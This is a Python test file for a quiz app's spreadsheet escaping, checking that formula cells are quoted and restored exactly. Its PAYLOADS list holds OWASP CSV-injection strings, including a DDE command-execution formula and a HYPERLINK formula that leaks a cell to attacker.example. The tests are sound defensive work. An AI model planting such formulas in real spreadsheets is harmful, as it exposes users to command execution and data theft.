"""Formula cells made inert for spreadsheets, and given back exactly."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from quizapp.spreadsheet import FORMULA_STARTS, protect, protect_line, unprotect, unprotect_line

# The classic CSV injection payloads (OWASP), and the same behind a tab or carriage return.
PAYLOADS = [
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")',
    "\t=1+1",
    "\r=1+1",
]
SAFE = ["", "plain", "1+1", "a=b", " =x", "'quoted'", "#comment", "'"]
# Text made mostly of the characters that matter, so the edge cases come up often.
TRICKY = st.text(alphabet=st.sampled_from(["=", "+", "-", "@", "\t", "\r", "'", ",", ";", "a"]))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_cells_get_a_quote_in_front(payload):
    assert protect(payload) == "'" + payload
    assert unprotect(protect(payload)) == payload


@pytest.mark.parametrize("cell", SAFE)
def test_other_cells_are_left_alone(cell):
    assert protect(cell) == cell
    assert unprotect(cell) == cell


def test_a_cell_that_already_starts_with_a_quote_before_a_formula_keeps_it():
    assert protect("'=1+1") == "''=1+1"
    assert unprotect("''=1+1") == "'=1+1"


@given(st.text() | TRICKY)
def test_unprotect_gives_every_cell_back(text):
    protected = protect(text)
    assert unprotect(protected) == text
    assert not protected.startswith(FORMULA_STARTS)


@given(st.text() | TRICKY)
def test_no_cell_a_spreadsheet_splits_a_line_into_starts_a_formula(text):
    line = "#title: " + protect_line(text)
    assert unprotect_line(protect_line(text)) == text
    for cell in re.split("[,;\t]", line):
        assert not cell.startswith(FORMULA_STARTS), line
